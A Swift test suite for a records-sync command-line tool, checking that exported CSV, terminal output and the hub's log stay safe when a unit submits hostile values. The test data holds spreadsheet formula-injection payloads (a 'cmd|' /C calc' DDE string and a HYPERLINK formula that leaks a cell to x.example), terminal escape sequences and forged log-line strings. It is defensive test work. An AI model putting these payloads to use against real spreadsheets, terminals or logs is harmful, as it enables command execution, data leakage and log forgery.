import BanliCore
import BanliOps
import BanliProtocol
import BanliStore
import BanliSync
import Foundation
import TestSupport
import Testing

/// What a unit's valid token lets an attacker put in front of the office: formulas in an exported ledger,
/// escape sequences on a clerk's terminal, forged lines in the hub's log. Through the real binary.
@Suite struct OutputHygieneTests {
    /// A hub with `items` items assigned to jxj (imported from the office's list), whose bureau fields hold
    /// seeded hostile values written by jxj and brought in with `banli apply`, as a sync would. Only the
    /// binary touches the store.
    func hub(items: Int, seed: UInt64, unitName: String = "市经信局") throws -> (BanliProcess, [LocalWrite]) {
        let cli = BanliProcess(directory: try BanliProcess.temporaryDirectory(), environment: ["BANLI_TODAY": "2025-11-30"])
        try cli.ok(["hub", "init", "--store", "hub.db"])
        try cli.ok(["hub", "add-unit", "jxj", "--name", unitName, "--store", "hub.db", "--token-file", "jxj.token"])
        let list = "编号,类别,年度,标题,主办单位\n" + (1...items).map { "\($0),建议,2025,建议\($0),jxj" }.joined(separator: "\n")
        try list.write(toFile: cli.directory + "/list.csv", atomically: true, encoding: .utf8)
        try cli.ok(["import", "list.csv", "--store", "hub.db"])

        var gen = HostileStrings(seed: seed)
        func line() -> String {
            let s = gen.nextLine().trimmedWhitespace
            return s.isEmpty ? "@SUM(1+1)*cmd|' /C calc'!A0" : s
        }
        var writes: [LocalWrite] = []
        for n in 1...items {
            let a = EntityKey.assignment(item: "rd-2025-\(n)", site: "jxj")
            let text = gen.next()
            writes += [
                LocalWrite(entity: a, field: "replyNumber", value: .string(n == 1 ? #"=HYPERLINK("http://x.example/?"&A1,"详情")"# : line())),
                LocalWrite(entity: a, field: "replySigner", value: .string(n == 1 ? "@SUM(1+1)*cmd|' /C calc'!A0" : line())),
                LocalWrite(entity: a, field: "handler", value: .string(n == 1 ? "\u{1b}[2J\u{1b}]0;pwned\u{7}王五" : line())),
                LocalWrite(entity: a, field: "replyText", value: .string(text.trimmedWhitespace.isEmpty ? "-1" : text)),
            ]
        }
        let counter = HybridLogicalClock.pack(milliseconds: HybridLogicalClock.wallMilliseconds())
        let lines = try writes.enumerated().map { i, w in
            var state = FieldState()
            state.write(w.value, dot: Dot(site: "jxj", counter: counter + UInt64(i)))
            return ReplicatedField(entity: w.entity, spec: try FieldCatalogue.require(w.entity.kind, w.field), state: state).jsonLine(hubSite: "hub")
        }
        try cli.ok(["apply", "-", "--store", "hub.db"], stdin: lines.joined(separator: "\n") + "\n")
        return (cli, writes)
    }

    @Test func exportedCSVRunsNoFormulaAndImportGivesBackEveryValueExactly() throws {
        let (cli, _) = try hub(items: 60, seed: 0xE4_9087, unitName: "=cmd|' /C calc'!A0")
        try cli.ok(["export", "--output", "ledger.csv", "--store", "hub.db"])
        let csv = try String(contentsOfFile: cli.directory + "/ledger.csv", encoding: .utf8)
        let report = try cli.ok(["report", "--format", "csv", "--year", "2025", "--unit", "jxj", "--store", "hub.db"])
        let cells = rawCSVCells(csv) + rawCSVCells(report)
        #expect(cells.contains(#"'=HYPERLINK("http://x.example/?"&A1,"详情")"#))
        for cell in cells { #expect(!startsAFormula(cell), "a spreadsheet would run \(cell.debugDescription)") }

        let other = BanliProcess(directory: try BanliProcess.temporaryDirectory(), environment: cli.environment)
        try other.ok(["hub", "init", "--store", "hub.db"])
        try other.ok(["hub", "add-unit", "jxj", "--name", "市经信局", "--store", "hub.db", "--token-file", "jxj.token"])
        try FileManager.default.copyItem(atPath: cli.directory + "/ledger.csv", toPath: other.directory + "/ledger.csv")
        try other.ok(["import", "ledger.csv", "--store", "hub.db"])
        let a = try JSONValue.parse(cli.ok(["export", "--format", "json", "--store", "hub.db"]))
        let b = try JSONValue.parse(other.ok(["export", "--format", "json", "--store", "hub.db"]))
        #expect(a.canonicalJSON.replacingOccurrences(of: "=cmd|' /C calc'!A0", with: "市经信局") == b.canonicalJSON, "import(export(x)) == x")
    }

    @Test func nothingPrintedCanDriveTheTerminalAndJSONStaysExact() throws {
        let (cli, writes) = try hub(items: 12, seed: 0x7E_2A11, unitName: "\u{1b}]0;pwned\u{7}市经信局\u{202e}")
        // A conflict between the office's entry and the bureau's own value, both hostile.
        try cli.ok(["init", "--site", "jxj", "--name", "市经信局", "--store", "jxj.db"])
        try cli.ok(["apply", "-", "--store", "jxj.db"], stdin: cli.ok(["dump", "--json", "--store", "hub.db"]))
        try cli.ok(["item", "set", "rd-2025-1", "progress", "\u{9b}2J进展\u{2066}", "--unit", "jxj", "--store", "jxj.db"])
        try cli.ok(["item", "set", "rd-2025-1", "progress", "\u{1b}c办公室\u{7f}", "--unit", "jxj", "--store", "hub.db"])
        try cli.ok(["apply", "-", "--store", "hub.db"], stdin: cli.ok(["dump", "--json", "--store", "jxj.db"]))

        let commands: [[String]] = [
            ["item", "show", "rd-2025-1"], ["item", "show", "rd-2025-7"], ["item", "list"], ["conflicts"], ["history", "rd-2025-1"],
            ["report", "--year", "2025", "--unit", "jxj"], ["report", "--year", "2025", "--unit", "jxj", "--format", "md"], ["status"], ["dump"],
            ["dump", "--json"], ["item", "show", "rd-2025-1", "--json"], ["item", "list", "--json"], ["conflicts", "--json"],
            ["history", "rd-2025-1", "--json"],
        ]
        for command in commands {
            for store in ["hub.db", "jxj.db"] where store == "hub.db" || command[0] != "status" {
                let out = try cli.ok(command + ["--store", store])
                let scalars = Array(out.unicodeScalars)
                let bad = scalars.indices.filter { i in
                    scalars[i] != "\n" && TerminalText.isUnsafe(scalars[i]) && !(scalars[i] == "\r" && i + 1 < scalars.count && scalars[i + 1] == "\n")
                }.map { scalars[$0] }
                #expect(bad.isEmpty, "banli \(command.joined(separator: " ")) printed \(bad.map { String($0.value, radix: 16) })")
            }
        }
        let shown = try cli.ok(["item", "show", "rd-2025-1", "--store", "hub.db"])
        #expect(shown.contains(#"\u{1b}[2J\u{1b}]0;pwned\u{7}王五"#), "the value is shown, escaped: \(shown)")

        // JSON output still parses to exactly the stored values.
        for n in [1, 5, 12] {
            let json = try JSONValue.parse(cli.ok(["item", "show", "rd-2025-\(n)", "--json", "--store", "hub.db"]))
            guard case .object(let o) = json, case .object(let assignments)? = o["assignments"], case .object(let a)? = assignments["jxj"] else {
                Issue.record("no assignment in \(json.canonicalJSON)")
                continue
            }
            for w in writes where w.entity == .assignment(item: "rd-2025-\(n)", site: "jxj") {
                #expect(a[w.field] == w.value, "\(w.field)")
            }
        }
    }

    @Test func unicodeLineBreaksAreRefusedInOneLineFieldsAndChangeNothing() throws {
        let (cli, _) = try hub(items: 1, seed: 1)
        let before = try cli.ok(["dump", "--json", "--store", "hub.db"])
        for brk in ["\u{2028}", "\u{2029}", "\u{85}"] {
            let r = try cli.run(["item", "set", "rd-2025-1", "replyNumber", "冶经信函\(brk)12号", "--unit", "jxj", "--store", "hub.db"])
            #expect(r.status == 2 && r.stderr.contains("takes a single line of text"), "\(brk.debugDescription): \(r.stderr)")
        }
        #expect(try cli.ok(["dump", "--json", "--store", "hub.db"]) == before)
    }

    @Test func loggedValuesCannotForgeALineOrReachTheTerminal() throws {
        let c = try Cluster(units: ["jxj"])
        try c.startHub()
        defer { c.stopHub() }
        let jxj = CurlTransport(baseURL: c.hubURL, token: try c.token("jxj"))
        let forged = #"item/x\n2099-01-01T00:00:00Z critical hub: FORGED admin token accepted\u001b[2J\u2028"#
        let changes = [
            #"{"entity":"\#(forged)","field":"title","siblings":[],"context":{}}"#,
            #"{"entity":"assignment/rd-2025-1/jxj","field":"x\r\nFORGED\u001b]0;t\u0007","siblings":[],"context":{}}"#,
        ]
        let r = try jxj.post("/v1/sync", json: #"{"protocol":1,"site":"jxj","cursor":0,"changes":[\#(changes.joined(separator: ","))]}"#)
        #expect(r.status == 200)
        let bad = #"{"protocol":1,"site":"jxj","cursor":0,"changes":[{"entity":"assignment/rd-2025-1/jxj","field":"progress","#
            + #""siblings":[{"value":"v","site":"FORGED\nhub","counter":1}],"context":{"FORGED\nhub":1}}]}"#
        #expect(try jxj.post("/v1/sync", json: bad).status == 400)
        _ = c.waitFor(timeout: 5) { c.hubLog().contains("FORGED") }
        let log = c.hubLog()
        #expect(log.contains("FORGED"), "the refusal was logged: \(log)")
        // Every line mentioning the value is one the hub wrote: it starts with this year's timestamp (or,
        // under journald, a priority), never with the forged one.
        let year = Calendar(identifier: .gregorian).component(.year, from: Date())
        for line in log.split(separator: "\n") where line.contains("FORGED") {
            #expect(line.hasPrefix("\(year)-") || line.hasPrefix("<"), "forged line: \(line)")
        }
        #expect(!log.unicodeScalars.contains { $0 != "\n" && TerminalText.isUnsafe($0) }, "control characters reached the log")
    }
}
